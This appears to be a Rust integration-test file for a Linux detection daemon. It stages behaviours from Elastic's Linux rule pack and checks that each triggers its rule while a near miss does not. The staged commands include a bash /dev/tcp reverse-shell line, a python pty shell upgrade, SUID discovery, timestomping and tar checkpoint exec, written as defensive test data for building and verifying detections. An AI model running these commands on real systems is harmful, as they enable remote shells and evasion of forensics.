//! Issue 14's live evidence: Elastic's Linux rule pack loaded whole into one
//! daemon, real processes staging a sample of its rules across every kind of
//! event, and a near miss of each that must not raise that rule. the README lists them.

use std::cell::RefCell;
use std::io::{BufRead, BufReader, Read, Seek, SeekFrom, Write};
use std::net::{TcpListener, TcpStream};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, ExitStatus, Stdio};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::Duration;

use serde_json::Value;

use crate::daemon::{actor, run_actor, Daemon};
use crate::util::{in_ci, kernel_test, skip, test_name, wait_for};

/// Where the pack is when AUDETECT_PACK does not say (this project's test machine).
const DEFAULT_PACK: &str = "/work/shared/elastic-rules";

/// PATH for staged commands: the system's tools, never a user's shims
/// (pyenv's python3 is a shell script, which would change process.name).
const PATH: &str = "/usr/sbin:/usr/bin:/sbin:/bin";

/// The test's own rule: the actor's connect to the barrier port then setsid().
/// Its alert shows the daemon has handled everything staged before it. It
/// stands in for the built-in rule, whose max_signals (100) the barriers of
/// one run would come near.
const BARRIER_RULE: &str = "audetect pack test barrier";

/// How long a staged command may run.
const STAGING_TIMEOUT: Duration = Duration::from_secs(20);

/// How long an alert may trail the barrier that follows it. The pipeline is
/// in record order, so it should not trail at all; this is slack, not a wait.
const ALERT_GRACE: Duration = Duration::from_secs(2);

/// One rule of the pack, staged for real and missed narrowly.
struct Case {
    /// The rule's `name`, as alerts carry it in kibana.alert.rule.name.
    rule: &'static str,
    /// The event.action the alert must hold an event of: the kind staged.
    kind: &'static str,
    /// Stages the behaviour; returns the pid the alert must be about (the
    /// alert's process, or for a sequence over several processes, the
    /// process of its last event).
    stage: fn(&Ctx) -> Res<u32>,
    /// Another argument, user or path: must not raise the rule.
    near_miss: fn(&Ctx) -> Res<()>,
}

/// Why a case did not pass.
#[derive(Debug)]
enum Problem {
    /// This host lacks what the staging needs (a tool, a directory).
    Skip(String),
    Fail(String),
}

impl From<String> for Problem {
    fn from(s: String) -> Self {
        Problem::Fail(s)
    }
}

type Res<T> = Result<T, Problem>;

fn fail<T>(why: impl Into<String>) -> Res<T> {
    Err(Problem::Fail(why.into()))
}

/// The pack's directory, or why there is none here.
pub(crate) fn pack_dir() -> Result<PathBuf, String> {
    let dir = std::env::var_os("AUDETECT_PACK")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from(DEFAULT_PACK));
    if dir.is_dir() {
        Ok(dir)
    } else {
        Err(format!(
            "Elastic's Linux rule pack is not at {} (set AUDETECT_PACK to a directory of detection-rules' Linux EQL rules)",
            dir.display()
        ))
    }
}

#[test]
fn kernel_pack_rules_alert_on_staged_behaviour_and_not_on_near_misses() {
    let pack = match pack_dir() {
        Ok(p) => p,
        Err(why) => return skip(test_name!(), why),
    };
    let (lock, _name) = kernel_test!();
    let loaded = audetect::rulefile::load(
        false,
        std::slice::from_ref(&pack),
        &audetect::fields::schema(),
    )
    .expect("the pack loads");
    eprintln!("pack {}: {}", pack.display(), loaded.summary());

    let listener = Acceptor::start();
    let rules = crate::util::TempDir::new("pack-rules");
    std::fs::write(
        rules.path().join("barrier.toml"),
        barrier_rule(listener.port),
    )
    .expect("write the barrier rule");
    let extra = format!(
        "[detection]\nbuiltin_rules = false\nrule_paths = [{:?}, {:?}]\n",
        pack.display().to_string(),
        rules.path().display().to_string()
    );
    let d = Daemon::start(lock, &extra);
    let mut alerts = Alerts::new(d.dir.path().join("alerts.jsonl"));
    barrier(&mut alerts, listener.port).expect("the barrier rule alerts");

    let mut failed = Vec::new();
    let mut skipped = Vec::new();
    for (n, case) in CASES.iter().enumerate() {
        let outcome = check_case(case, n, &loaded, &mut alerts, listener.port);
        let verdict = match &outcome {
            Ok(()) => "ok".to_owned(),
            Err(Problem::Skip(why)) => format!("SKIPPED: {why}"),
            Err(Problem::Fail(why)) => format!("FAILED: {why}"),
        };
        eprintln!("{:>2} {:<20} {}: {verdict}", n + 1, case.kind, case.rule);
        match outcome {
            Ok(()) => {}
            Err(Problem::Skip(why)) => skipped.push(format!("{}: {why}", case.rule)),
            Err(Problem::Fail(why)) => failed.push(format!("{} ({}): {why}", case.rule, case.kind)),
        }
    }
    d.stop();
    drop(listener);
    assert!(
        skipped.is_empty() || !in_ci(),
        "under CI every case must run:\n{}",
        skipped.join("\n")
    );
    for s in &skipped {
        skip(test_name!(), s);
    }
    assert!(
        failed.is_empty(),
        "{} of {} cases failed:\n{}",
        failed.len(),
        CASES.len(),
        failed.join("\n\n")
    );
}

/// Replay gets the same model: the whole pack over a real process tree's
/// records (tests/fixtures/kinds.log) raises the rule its `touch -t` stages,
/// with the parent's name from the process table, and loads as many rules
/// as check-config says.
#[test]
fn replay_runs_the_pack_on_an_auditd_log() {
    let pack = match pack_dir() {
        Ok(p) => p,
        Err(why) => return skip("replay_runs_the_pack_on_an_auditd_log", why),
    };
    let dir = std::env::temp_dir().join(format!("audetect-replay-pack-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("temp dir");
    let config = dir.join("pack.toml");
    std::fs::write(
        &config,
        format!(
            "[detection]\nrule_paths = [{:?}]\n",
            pack.display().to_string()
        ),
    )
    .expect("write config");
    let out = Command::new(env!("CARGO_BIN_EXE_audetect"))
        .arg("replay")
        .arg("-c")
        .arg(&config)
        .arg(concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/tests/fixtures/kinds.log"
        ))
        .output()
        .expect("run audetect replay");
    let _ = std::fs::remove_dir_all(&dir);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{err}");
    assert!(err.contains("0 malformed"), "{err}");
    let alerts: Vec<Value> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).expect("JSON"))
        .collect();
    let touch = alerts
        .iter()
        .find(|a| rule_name(a) == Some("Timestomping using Touch Command"))
        .unwrap_or_else(|| panic!("no timestomping alert: {alerts:#?}\n{err}"));
    assert_eq!(
        touch["process"]["command_line"],
        "touch -t 202001010000 created.sh"
    );
    assert_eq!(touch["process"]["parent"]["name"], "bash");
    assert_eq!(alerts.len(), 1, "only what the log stages: {alerts:#?}");
}

/// The built-in rule's verdicts (issue 2's, as tests/integration/e2e.rs
/// stages them one daemon each) hold in one daemon with the whole pack
/// loaded beside it: the pack's other rules and audit rules change nothing.
#[test]
fn kernel_builtin_rule_verdicts_hold_with_the_pack_loaded() {
    let lock = kernel_test!(test_name!());
    let pack = match pack_dir() {
        Ok(p) => p,
        Err(why) => return skip(test_name!(), why),
    };
    let d = Daemon::start(
        lock,
        &format!(
            "[detection]\nrule_paths = [{:?}]\n",
            pack.display().to_string()
        ),
    );
    let p = crate::daemon::ports();
    let l6 = TcpListener::bind("[::1]:0").expect("listen on ::1");
    let port6 = l6.local_addr().expect("addr").port();
    let (open, closed) = (p.open, p.closed);
    let alerting: Vec<Vec<String>> = vec![
        vec![format!("tcp4:{open}"), "setsid".into()],
        vec![format!("tcp6:{port6}"), "setsid".into()],
        vec![format!("tcp4:{closed}"), "setsid".into()],
        vec![format!("tcp4nb:{open}"), "setsid".into()],
        vec![format!("tcp4:{open}"), "thread-setsid".into()],
        vec![format!("tcp4:{open}"), "setsid".into(), "exit".into()],
        vec![
            format!("tcp4:{closed}"),
            format!("tcp4:{open}"),
            "setsid".into(),
        ],
    ];
    let quiet: Vec<Vec<String>> = vec![
        vec!["drop-root".into(), format!("tcp4:{open}"), "setsid".into()],
        vec!["setsid".into(), format!("tcp4:{open}")],
        vec![format!("tcp4:{open}"), "child-setsid".into()],
        vec![format!("udp4:{open}"), "setsid".into(), "sleep:1000".into()],
        vec![format!("tcp4:{open}")],
    ];
    let pids = |cases: &[Vec<String>]| -> Vec<(u32, String)> {
        cases
            .iter()
            .map(|steps| {
                let steps: Vec<&str> = steps.iter().map(String::as_str).collect();
                (run_actor(actor(), &steps).pid, steps.join(" "))
            })
            .collect()
    };
    let yes = pids(&alerting);
    let no = pids(&quiet);
    // The canary is the built-in rule's own positive, after all the others.
    let all = d.canary(open);
    let builtin = "Suspicious Network Connection Attempt by Root";
    let of = |pid: u32| {
        all.iter()
            .filter(|a| a["process"]["pid"] == pid && rule_name(a) == Some(builtin))
            .count()
    };
    let mut wrong = Vec::new();
    for (pid, steps) in &yes {
        if of(*pid) != 1 {
            wrong.push(format!(
                "{steps}: {} alerts of the built-in rule, want 1",
                of(*pid)
            ));
        }
    }
    for (pid, steps) in &no {
        if of(*pid) != 0 {
            wrong.push(format!(
                "{steps}: {} alerts of the built-in rule, want 0",
                of(*pid)
            ));
        }
    }
    d.stop();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// The rules of the sample: all distinct but one (staged once by setuid, once by setgid).
#[test]
fn pack_sample_spans_every_kind_but_load_module() {
    let kinds: std::collections::BTreeSet<&str> = CASES.iter().map(|c| c.kind).collect();
    let supplied: std::collections::BTreeSet<&str> = [
        "exec",
        "fork",
        "end",
        "uid_change",
        "gid_change",
        "session_id_change",
        "connection_attempted",
        "connection_accepted",
        "creation",
        "deletion",
        "rename",
    ]
    .into();
    assert_eq!(kinds, supplied);
    let mut names: Vec<&str> = CASES.iter().map(|c| c.rule).collect();
    names.sort_unstable();
    names.dedup();
    assert!(names.len() >= 25, "{} rules", names.len());
    assert_eq!(names.len() + 1, CASES.len());
    let doc = std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("README.md"))
        .expect("read the README");
    for case in CASES {
        assert!(
            doc.contains(&format!("| {} | {} |", case.rule, case.kind)),
            "the README has no row for {} ({})",
            case.rule,
            case.kind
        );
    }
}

fn check_case(
    case: &Case,
    n: usize,
    loaded: &audetect::rulefile::RuleSet,
    alerts: &mut Alerts,
    port: u16,
) -> Res<()> {
    if !loaded.rules.iter().any(|r| r.meta.name == case.rule) {
        let why = loaded
            .skipped
            .iter()
            .find(|s| s.name == case.rule)
            .map_or("it is not in the pack".to_owned(), |s| {
                format!("skipped: {}", s.reason)
            });
        return fail(format!("the rule does not load: {why}"));
    }
    let ctx = Ctx::new(n, port)?;
    let mark = alerts.len();
    let pid = (case.stage)(&ctx)?;
    barrier(alerts, port)?;
    let is_it = |a: &Value| rule_name(a) == Some(case.rule) && alert_pid(a) == Some(pid);
    let Some(alert) = alerts.wait(mark, ALERT_GRACE, is_it) else {
        return fail(format!(
            "no alert of the rule about pid {pid}; since staging, {}",
            describe(alerts.since(mark), case.rule, pid)
        ));
    };
    let actions = actions(&alert);
    if !actions.iter().any(|a| a == case.kind) {
        return fail(format!(
            "the alert about pid {pid} has no {} event, only {actions:?}",
            case.kind
        ));
    }
    let mark = alerts.len();
    (case.near_miss)(&ctx)?;
    barrier(alerts, port)?;
    let strays: Vec<String> = alerts
        .since(mark)
        .iter()
        .filter(|a| rule_name(a) == Some(case.rule))
        .map(summary)
        .collect();
    if !strays.is_empty() {
        return fail(format!("the near miss raised it: {}", strays.join("; ")));
    }
    Ok(())
}

fn rule_name(a: &Value) -> Option<&str> {
    a["kibana"]["alert"]["rule"]["name"].as_str()
}

/// The alert's process: the one every event shares, else the last event's.
fn alert_pid(a: &Value) -> Option<u32> {
    let process = match a.get("process") {
        Some(p) => p,
        None => &a["events"].as_array()?.last()?["process"],
    };
    process["pid"].as_u64().and_then(|p| u32::try_from(p).ok())
}

fn actions(a: &Value) -> Vec<String> {
    a["events"]
        .as_array()
        .map(|events| {
            events
                .iter()
                .map(|e| e["event"]["action"].as_str().unwrap_or("?").to_owned())
                .collect()
        })
        .unwrap_or_default()
}

fn summary(a: &Value) -> String {
    let events: Vec<String> = a["events"]
        .as_array()
        .map(|events| {
            events
                .iter()
                .map(|e| {
                    format!(
                        "{} by pid {} {}",
                        e["event"]["action"].as_str().unwrap_or("?"),
                        e["process"]["pid"],
                        e["process"]["executable"]
                    )
                })
                .collect()
        })
        .unwrap_or_default();
    format!(
        "{:?} about pid {:?} [{}]",
        rule_name(a).unwrap_or("?"),
        alert_pid(a),
        events.join(", ")
    )
}

/// What a failing case saw: the rule's alerts, and the alerts about the pid.
fn describe(since: &[Value], rule: &str, pid: u32) -> String {
    let of_rule: Vec<String> = since
        .iter()
        .filter(|a| rule_name(a) == Some(rule))
        .map(summary)
        .collect();
    let of_pid: Vec<String> = since
        .iter()
        .filter(|a| rule_name(a) != Some(rule) && alert_pid(a) == Some(pid))
        .map(summary)
        .collect();
    format!(
        "the rule's alerts: [{}]; other rules' alerts about pid {pid}: [{}]",
        of_rule.join("; "),
        of_pid.join("; ")
    )
}

fn barrier_rule(port: u16) -> String {
    format!(
        r#"[metadata]
creation_date = "2026/01/01"

[rule]
author = ["audetect tests"]
description = "The actor connected to the test's barrier port, then called setsid()."
name = "{BARRIER_RULE}"
risk_score = 1
rule_id = "00000000-0000-4000-8000-00000000ba55"
severity = "low"
type = "eql"
language = "eql"
max_signals = 100000
query = '''
sequence by process.entity_id with maxspan=1m
  [network where event.action == "connection_attempted" and destination.port == {port}]
  [process where event.action == "session_id_change"]
'''
"#
    )
}

/// Runs the actor against the barrier port and waits for its alert.
fn barrier(alerts: &mut Alerts, port: u16) -> Res<()> {
    let mark = alerts.len();
    let run = run_actor(actor(), &[&format!("tcp4:{port}"), "setsid"]);
    let found = alerts.wait(mark, Duration::from_secs(10), |a| {
        rule_name(a) == Some(BARRIER_RULE) && alert_pid(a) == Some(run.pid)
    });
    match found {
        Some(_) => Ok(()),
        None => fail(format!(
            "the barrier (actor pid {}) raised no alert within 10 s",
            run.pid
        )),
    }
}

/// The daemon's JSON-lines alerts, read as they grow.
struct Alerts {
    path: PathBuf,
    offset: u64,
    partial: String,
    all: Vec<Value>,
}

impl Alerts {
    fn new(path: PathBuf) -> Alerts {
        Alerts {
            path,
            offset: 0,
            partial: String::new(),
            all: Vec::new(),
        }
    }

    fn refresh(&mut self) {
        let Ok(mut f) = std::fs::File::open(&self.path) else {
            return;
        };
        if f.seek(SeekFrom::Start(self.offset)).is_err() {
            return;
        }
        let mut more = String::new();
        let Ok(read) = f.read_to_string(&mut more) else {
            return;
        };
        self.offset += read as u64;
        self.partial.push_str(&more);
        while let Some(end) = self.partial.find('\n') {
            let line: String = self.partial.drain(..=end).collect();
            let value = serde_json::from_str(line.trim())
                .unwrap_or_else(|e| panic!("alert is not JSON ({e}): {line}"));
            self.all.push(value);
        }
    }

    fn len(&mut self) -> usize {
        self.refresh();
        self.all.len()
    }

    fn since(&mut self, mark: usize) -> &[Value] {
        self.refresh();
        &self.all[mark.min(self.all.len())..]
    }

    /// The first alert from `mark` on that `pred` accepts, waiting up to `timeout`.
    fn wait(
        &mut self,
        mark: usize,
        timeout: Duration,
        pred: impl Fn(&Value) -> bool,
    ) -> Option<Value> {
        wait_for(timeout, || {
            self.since(mark).iter().find(|a| pred(a)).cloned()
        })
    }
}

/// A loopback listener that accepts and closes every connection, so that
/// the many connects of one run never fill its backlog.
struct Acceptor {
    port: u16,
    stop: Arc<AtomicBool>,
    thread: Option<std::thread::JoinHandle<()>>,
}

impl Acceptor {
    fn start() -> Acceptor {
        let listener = TcpListener::bind("127.0.0.1:0").expect("bind a loopback listener");
        let port = listener.local_addr().expect("listener address").port();
        listener
            .set_nonblocking(true)
            .expect("non-blocking listener");
        let stop = Arc::new(AtomicBool::new(false));
        let stopped = Arc::clone(&stop);
        let thread = std::thread::spawn(move || {
            while !stopped.load(Ordering::Relaxed) {
                match listener.accept() {
                    Ok((conn, _)) => drop(conn),
                    Err(_) => std::thread::sleep(Duration::from_millis(10)),
                }
            }
        });
        Acceptor {
            port,
            stop,
            thread: Some(thread),
        }
    }
}

impl Drop for Acceptor {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

/// One case's scratch space: a directory under /tmp (rules key on /tmp/*,
/// whatever TMPDIR says) and anything else it made, removed on drop.
struct Ctx {
    dir: PathBuf,
    /// Unique among runs and cases, for names outside `dir`.
    tag: String,
    /// The loopback port that accepts (the barrier's).
    port: u16,
    elsewhere: RefCell<Vec<PathBuf>>,
}

impl Ctx {
    fn new(n: usize, port: u16) -> Res<Ctx> {
        let tag = format!("audetect-pack-{}-{n}", std::process::id());
        let dir = Path::new("/tmp").join(&tag);
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir(&dir).map_err(|e| format!("create {}: {e}", dir.display()))?;
        // Other users (nobody) run what some cases put here.
        std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755))
            .map_err(|e| format!("chmod {}: {e}", dir.display()))?;
        Ok(Ctx {
            dir,
            tag,
            port,
            elsewhere: RefCell::new(Vec::new()),
        })
    }

    fn path(&self, name: &str) -> PathBuf {
        self.dir.join(name)
    }

    /// `path` as a string for a command line (our paths are plain ASCII).
    fn p(&self, name: &str) -> String {
        self.path(name).display().to_string()
    }

    /// A directory outside `dir`, removed with it.
    fn dir_elsewhere(&self, parent: &str) -> Res<PathBuf> {
        if !Path::new(parent).is_dir() {
            return Err(Problem::Skip(format!("this host has no {parent}")));
        }
        let dir = Path::new(parent).join(&self.tag);
        self.elsewhere.borrow_mut().push(dir.clone());
        std::fs::create_dir(&dir).map_err(|e| format!("create {}: {e}", dir.display()))?;
        std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755))
            .map_err(|e| format!("chmod {}: {e}", dir.display()))?;
        Ok(dir)
    }

    fn write(&self, name: &str, text: &str) -> Res<PathBuf> {
        let path = self.path(name);
        if let Some(parent) = path.parent() {
            std::fs::create_dir_all(parent)
                .map_err(|e| format!("create {}: {e}", parent.display()))?;
        }
        std::fs::write(&path, text).map_err(|e| format!("write {}: {e}", path.display()))?;
        Ok(path)
    }

    /// A copy of the system's `tool` named `name` in `dir`: rules key on
    /// process.name and process.executable, which come from the file run.
    fn copy_tool(&self, tool_name: &str, name: &str) -> Res<PathBuf> {
        copy_exe(&tool(tool_name)?, &self.path(name))
    }

    /// A command run in `dir`, with the system PATH and no stdin.
    fn cmd(&self, program: impl AsRef<std::ffi::OsStr>) -> Command {
        let mut c = Command::new(program);
        c.env("PATH", PATH)
            .current_dir(&self.dir)
            .stdin(Stdio::null());
        c
    }

    /// `script` run by sh in a private mount namespace where a fresh tmpfs
    /// covers `over`: rules that watch system directories (/etc/cron.d,
    /// /usr/local/bin, ...) see a real path while the host's stays untouched.
    fn in_private_mount(&self, over: &str, script: &str) -> Res<Command> {
        if !Path::new(over).is_dir() {
            return Err(Problem::Skip(format!("this host has no {over}")));
        }
        let mut c = self.cmd(tool("unshare")?);
        c.args(["-m", "--propagation", "private", "sh", "-c"])
            .arg(format!("mount -t tmpfs audetect-pack {over} && {script}"));
        Ok(c)
    }
}

impl Drop for Ctx {
    fn drop(&mut self) {
        for p in self.elsewhere.borrow().iter() {
            let _ = std::fs::remove_dir_all(p).or_else(|_| std::fs::remove_file(p));
        }
        let _ = std::fs::remove_dir_all(&self.dir);
    }
}

/// A system program by name, from the system's directories only.
fn tool(name: &str) -> Res<PathBuf> {
    PATH.split(':')
        .map(|d| Path::new(d).join(name))
        .find(|p| p.is_file())
        .ok_or_else(|| Problem::Skip(format!("{name} is not installed")))
}

fn copy_exe(from: &Path, to: &Path) -> Res<PathBuf> {
    std::fs::copy(from, to)
        .map_err(|e| format!("copy {} to {}: {e}", from.display(), to.display()))?;
    std::fs::set_permissions(to, std::fs::Permissions::from_mode(0o755))
        .map_err(|e| format!("chmod {}: {e}", to.display()))?;
    Ok(to.to_path_buf())
}

/// A finished staged command.
struct Ran {
    pid: u32,
    status: ExitStatus,
    stdout: String,
    stderr: String,
}

impl Ran {
    /// The command exited 0.
    fn ok(self) -> Res<Ran> {
        if self.status.success() {
            Ok(self)
        } else {
            fail(format!(
                "staged command {}: {}\nstdout: {}\nstderr: {}",
                self.pid, self.status, self.stdout, self.stderr
            ))
        }
    }

    /// N in the first line `WORD N` it printed (a pid the staging reports).
    fn printed(&self, word: &str) -> Res<u32> {
        self.stdout
            .lines()
            .find_map(|l| {
                let mut parts = l.split_whitespace();
                (parts.next() == Some(word)).then(|| parts.next()?.parse().ok())?
            })
            .ok_or_else(|| {
                Problem::Fail(format!(
                    "staged command {} printed no `{word} N`: {}\nstderr: {}",
                    self.pid, self.stdout, self.stderr
                ))
            })
    }
}

/// Runs `c` to its end, at most STAGING_TIMEOUT.
fn run(c: &mut Command) -> Res<Ran> {
    let mut child = c
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .map_err(|e| format!("cannot start {c:?}: {e}"))?;
    let pid = child.id();
    let stdout = reader(&mut child, true);
    let stderr = reader(&mut child, false);
    let Some(status) = wait_for(STAGING_TIMEOUT, || child.try_wait().ok().flatten()) else {
        let _ = child.kill();
        let _ = child.wait();
        return fail(format!("{c:?} did not finish within {STAGING_TIMEOUT:?}"));
    };
    Ok(Ran {
        pid,
        status,
        stdout: stdout.join().unwrap_or_default(),
        stderr: stderr.join().unwrap_or_default(),
    })
}

fn reader(child: &mut Child, stdout: bool) -> std::thread::JoinHandle<String> {
    let pipe: Option<Box<dyn Read + Send>> = if stdout {
        child.stdout.take().map(|p| Box::new(p) as _)
    } else {
        child.stderr.take().map(|p| Box::new(p) as _)
    };
    std::thread::spawn(move || {
        let mut s = String::new();
        if let Some(mut p) = pipe {
            let _ = p.read_to_string(&mut s);
        }
        s
    })
}

/// `PROGRAM ARGS...` (the caller adds ARGS) in a network namespace of its
/// own whose `lo` holds `addr`: a connect to `addr` sends a real SYN, which
/// that `lo` answers (a RST where nothing listens), and no packet leaves the
/// host. A connect with no route at all (ENETUNREACH) would be no attempt:
/// Elastic's sensor, and audetect, count only connects that sent a SYN.
fn in_own_netns(ctx: &Ctx, addr: &str, program: &Path) -> Res<Command> {
    let ip = tool("ip")?;
    let mut c = ctx.cmd(tool("unshare")?);
    c.args(["-n", "sh", "-c"])
        .arg(format!(
            "{ip} link set lo up && {ip} addr add {addr}/32 dev lo && exec \"$0\" \"$@\"",
            ip = ip.display()
        ))
        .arg(program);
    Ok(c)
}

/// setpriv with real ids root and effective ids nobody: what a process
/// left with a path back to root looks like (CAP_SETUID abuse, a setuid
/// binary that dropped only its effective id).
fn half_dropped(ctx: &Ctx) -> Res<Command> {
    let mut c = ctx.cmd(tool("setpriv")?);
    c.args([
        "--ruid",
        "0",
        "--euid",
        "65534",
        "--rgid",
        "0",
        "--egid",
        "65534",
        "--clear-groups",
    ]);
    Ok(c)
}

/// setpriv as nobody, entirely.
fn as_nobody(ctx: &Ctx) -> Res<Command> {
    let mut c = ctx.cmd(tool("setpriv")?);
    c.args(["--reuid", "65534", "--regid", "65534", "--clear-groups"]);
    Ok(c)
}

// ---- exec ------------------------------------------------------------------

fn revshell_terminal(c: &Ctx) -> Res<u32> {
    // The rule is about the shell's arguments: bash runs straight from
    // `unshare -n` (no wrapper whose arguments hold the same text), and its
    // connect finds no route there.
    let mut c = c.cmd(tool("unshare")?);
    c.arg("-n").arg(tool("bash")?);
    Ok(run(c.args(["-c", "exec 3<>/dev/tcp/10.1.2.3/4444"]))?.pid)
}

fn revshell_terminal_miss(c: &Ctx) -> Res<()> {
    let script = format!("exec 3<>/dev/tcp/127.0.0.1/{}", c.port);
    run(c.cmd(tool("bash")?).args(["-c", &script]))?.ok()?;
    Ok(())
}

fn revshell_background(c: &Ctx) -> Res<u32> {
    let script = format!(
        "setsid bash -c 'echo pid $$; echo staged >/dev/tcp/127.0.0.1/{} 0>&1'; true",
        c.port
    );
    run(c.cmd(tool("bash")?).args(["-c", &script]))?
        .ok()?
        .printed("pid")
}

fn revshell_background_miss(c: &Ctx) -> Res<()> {
    let script = format!(
        "setsid bash -c 'echo staged >/dev/tcp/127.0.0.1/{}'; true",
        c.port
    );
    run(c.cmd(tool("bash")?).args(["-c", &script]))?.ok()?;
    Ok(())
}

fn python_tty(c: &Ctx) -> Res<u32> {
    let code = r#"import pty; pty.spawn(["/bin/sh", "-c", "echo pid $$"])"#;
    run(c.cmd(tool("python3")?).args(["-c", code]))?
        .ok()?
        .printed("pid")
}

fn python_tty_miss(c: &Ctx) -> Res<()> {
    let code = r#"import subprocess; subprocess.run(["/bin/sh", "-c", "echo pid $$"])"#;
    run(c.cmd(tool("python3")?).args(["-c", code]))?.ok()?;
    Ok(())
}

fn shm_binary(c: &Ctx) -> Res<u32> {
    let dir = c.dir_elsewhere("/dev/shm")?;
    let exe = copy_exe(&tool("true")?, &dir.join("true"))?;
    Ok(run(&mut c.cmd(exe))?.ok()?.pid)
}

fn shm_binary_miss(c: &Ctx) -> Res<()> {
    let exe = Path::new("/dev/shm").join(&c.tag).join("true");
    run(as_nobody(c)?.arg(exe))?.ok()?;
    Ok(())
}

fn trailing_space(c: &Ctx) -> Res<u32> {
    let exe = c.copy_tool("true", "true ")?;
    Ok(run(&mut c.cmd(exe))?.ok()?.pid)
}

fn trailing_space_miss(c: &Ctx) -> Res<()> {
    let exe = c.copy_tool("true", "true")?;
    run(&mut c.cmd(exe))?.ok()?;
    Ok(())
}

fn suid_find(c: &Ctx) -> Res<u32> {
    Ok(run(as_nobody(c)?
        .arg("find")
        .arg(&c.dir)
        .args(["-perm", "-4000"]))?
    .ok()?
    .pid)
}

fn suid_find_miss(c: &Ctx) -> Res<()> {
    run(c.cmd(tool("find")?).arg(&c.dir).args(["-perm", "-4000"]))?.ok()?;
    Ok(())
}

fn openssl_passwd(c: &Ctx) -> Res<u32> {
    let args = ["passwd", "-1", "-salt", "audetect", "staged"];
    Ok(run(c.cmd(tool("openssl")?).args(args))?.ok()?.pid)
}

fn openssl_passwd_miss(c: &Ctx) -> Res<()> {
    run(c.cmd(tool("openssl")?).args(["passwd", "staged"]))?;
    Ok(())
}

fn chmod_suid(c: &Ctx) -> Res<u32> {
    let f = c.write("f", "staged\n")?;
    Ok(run(c.cmd(tool("chmod")?).arg("u+s").arg(f))?.ok()?.pid)
}

fn chmod_suid_miss(c: &Ctx) -> Res<()> {
    run(c.cmd(tool("chmod")?).arg("u+x").arg(c.path("f")))?.ok()?;
    Ok(())
}

fn touch_timestomp(c: &Ctx) -> Res<u32> {
    let f = c.write("f", "staged\n")?;
    Ok(
        run(c.cmd(tool("touch")?).args(["-t", "202001010000"]).arg(f))?
            .ok()?
            .pid,
    )
}

fn touch_timestomp_miss(c: &Ctx) -> Res<()> {
    run(c.cmd(tool("touch")?).arg(c.path("f")))?.ok()?;
    Ok(())
}

fn chattr_immutable(c: &Ctx) -> Res<u32> {
    // Clearing a flag the file lacks: the rule's arguments, nothing left set.
    let f = c.write("f", "staged\n")?;
    Ok(run(c.cmd(tool("chattr")?).arg("-i").arg(f))?.ok()?.pid)
}

fn chattr_immutable_miss(c: &Ctx) -> Res<()> {
    run(c.cmd(tool("chattr")?).arg("-A").arg(c.path("f")))?.ok()?;
    Ok(())
}

fn kthread_name(c: &Ctx) -> Res<u32> {
    let exe = c.copy_tool("true", "kthreadd")?;
    Ok(run(&mut c.cmd(exe))?.ok()?.pid)
}

fn kthread_name_miss(c: &Ctx) -> Res<()> {
    let exe = c.copy_tool("true", "threadd")?;
    run(&mut c.cmd(exe))?.ok()?;
    Ok(())
}

const WEB_SERVER: &str = "import subprocess, sys\n\
    p = subprocess.Popen([sys.argv[1]])\n\
    print('pid', p.pid, flush=True)\n\
    p.wait()\n";

fn web_server_child(c: &Ctx) -> Res<u32> {
    let script = c.write("server.py", WEB_SERVER)?;
    let payload = c.copy_tool("true", "payload")?;
    run(c.cmd(tool("python3")?).arg(script).arg(payload))?
        .ok()?
        .printed("pid")
}

fn web_server_child_miss(c: &Ctx) -> Res<()> {
    let script = c.write("client.py", WEB_SERVER)?;
    run(c.cmd(tool("python3")?).arg(script).arg(c.path("payload")))?.ok()?;
    Ok(())
}

fn tar_checkpoint(c: &Ctx) -> Res<u32> {
    c.write("f", "staged\n")?;
    let args = [
        "-cf",
        "out.tar",
        "--checkpoint=1",
        "--checkpoint-action=exec=echo pid $$",
        "f",
    ];
    run(c.cmd(tool("tar")?).args(args))?.ok()?.printed("pid")
}

fn tar_checkpoint_miss(c: &Ctx) -> Res<()> {
    let args = [
        "-cf",
        "out2.tar",
        "--checkpoint=1",
        "--checkpoint-action=echo",
        "f",
    ];
    run(c.cmd(tool("tar")?).args(args))?.ok()?;
    Ok(())
}

// ---- fork ------------------------------------------------------------------

/// bash forks a subshell that runs a builtin only: a fork with no exec.
const FORK_ONLY: &str = "( echo child $BASHPID ); true";

fn space_after_name_fork(c: &Ctx) -> Res<u32> {
    let bash = c.copy_tool("bash", "bash ")?;
    run(c.cmd(bash).args(["-c", FORK_ONLY]))?
        .ok()?
        .printed("child")
}

fn space_after_name_fork_miss(c: &Ctx) -> Res<()> {
    let bash = c.copy_tool("bash", "bash")?;
    run(c.cmd(bash).args(["-c", FORK_ONLY]))?.ok()?;
    Ok(())
}

fn google_drive_fork(c: &Ctx) -> Res<u32> {
    let curl = c.copy_tool("bash", "curl")?;
    let url = "https://drive.google.com/uc?export=download&confirm=no_antivirus&id=audetect";
    run(c.cmd(curl).args(["-c", FORK_ONLY, url]))?
        .ok()?
        .printed("child")
}

fn google_drive_fork_miss(c: &Ctx) -> Res<()> {
    let url = "https://drive.google.com/uc?export=download&id=audetect";
    run(c.cmd(c.path("curl")).args(["-c", FORK_ONLY, url]))?.ok()?;
    Ok(())
}

// ---- end -------------------------------------------------------------------

fn esxi_kill(c: &Ctx) -> Res<u32> {
    let parent = c.copy_tool("dash", "kill")?;
    let vmx = c.copy_tool("true", "vmx")?;
    let script = format!("{} & echo pid $!; wait", vmx.display());
    run(c.cmd(parent).args(["-c", &script]))?
        .ok()?
        .printed("pid")
}

fn esxi_kill_miss(c: &Ctx) -> Res<()> {
    let parent = c.copy_tool("dash", "pkill")?;
